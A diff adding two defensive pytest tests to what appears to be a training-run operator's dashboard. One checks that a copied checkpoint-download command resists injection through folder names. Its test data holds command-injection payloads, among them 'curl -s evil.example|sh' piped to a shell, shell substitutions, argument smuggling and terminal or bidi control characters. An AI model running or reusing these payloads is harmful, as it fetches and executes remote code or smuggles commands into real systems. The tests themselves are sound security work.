@@ -103,6 +103,48 @@ async def test_an_end_is_shown_by_shape_words_and_message(shown, status, icon, t
     assert "stop-button" not in text, "What has ended cannot be stopped."
 
 
+@pytest.mark.parametrize(
+    ("folder", "copied"),
+    [
+        pytest.param("checkpoint-1200", None, id="an ordinary name"),
+        pytest.param("checkpoint-1200;curl -s evil.example|sh;", None, id="words that act"),
+        pytest.param("checkpoint-1200'$(id)`id`\"", None, id="quotes and substitutions"),
+        pytest.param("checkpoint 1200 -- --delete", None, id="more words"),
+        pytest.param(
+            "checkpoint-1200\ncurl -s evil.example|sh\n", "plugin", id="a line feed, which runs it without Enter"
+        ),
+        pytest.param("checkpoint-1200\r\x1b[2K", "plugin", id="terminal sequences"),
+        pytest.param("checkpoint-\u202e0021", "plugin", id="text turned around"),
+    ],
+)
+async def test_the_copied_command_downloads_the_checkpoint_and_does_nothing_else(shown, folder, copied):
+    uri = f"s3://bucket/runs/ml/bert/{folder}/"
+    status = run_status()
+    status["checkpoint"] |= {"uri": uri, "dir": folder}
+    page = await shown(run_in(status))
+    (written,) = re.findall(r'<code id="fetch-command">([^<]*)</code>', page)
+    said = html.unescape(written)
+    plugin = ["kubectl", "trainingrun", "checkpoints", "download", NAME, "--namespace", NAMESPACE]
+    assert shlex.split(said) == (plugin if copied else ["aws", "s3", "sync", uri, "."])
+    assert said.isprintable()
+
+
+@pytest.mark.parametrize("who", ["a person", "anybody"])
+async def test_the_last_lines_of_a_log_are_for_people_who_are_logged_in(visit, monkeypatch, who):
+    monkeypatch.setattr("trainingrun_operator.dashboard.app.service_account_token", lambda: "own")
+    failed = ended("failed", "Failed", "Training crashed once.", lastLogLines="PASSWORD=hunter2")
+    stored = run_in(failed)
+    async with (
+        people.cluster(stored, ada=ADA, own=Someone("dashboard")) as cluster,
+        visit(cluster, "ada" if who == "a person" else "", anonymous=True) as visitor,
+        visitor.events(f"{PAGE}/events") as events,
+    ):
+        page = (await visitor.get(PAGE)).text
+        part = (await events.wait("part", '"outcome"'))["html"]
+    assert "Training crashed once." in page
+    assert [("hunter2" in text) for text in (page, part)] == [who == "a person"] * 2
+
+
 async def test_what_decided_is_shown(shown):
     evidence = [{"what": "loss", "value": "0.2987", "step": 1190}, {"what": "loss", "value": "0.2931", "step": 1200}]
     text = words(
